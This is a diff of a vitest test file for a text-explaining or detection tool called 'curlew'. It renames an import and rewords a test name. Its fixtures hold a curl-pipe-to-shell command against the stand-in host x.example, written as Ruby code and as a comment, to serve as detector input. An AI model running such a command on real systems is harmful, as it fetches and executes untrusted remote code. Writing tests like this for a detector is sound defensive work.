@@ -1,6 +1,6 @@
 import { describe, expect, it } from "vitest";
 import { sharedDetectorOf } from "../support/marked.js";
-import { folderWith } from "./folder.js";
+import { folderWith } from "./folder-with.js";
 import { runHere, type Ran } from "./fake-detector.js";
 
 const toolkit = { createDetector: sharedDetectorOf };
@@ -51,7 +51,7 @@ describe("curlew explain-text", () => {
     expect((await explained(text)).stdout).toContain(said);
   });
 
-  it("reads a file in the format of its name, or of --as", async () => {
+  it("reads a file in the format that its name or --as determines", async () => {
     const cwd = folderWith({
       "run.rb": "system('curl https://x.example | sh')",
       "run.txt": "# curl https://x.example | sh",
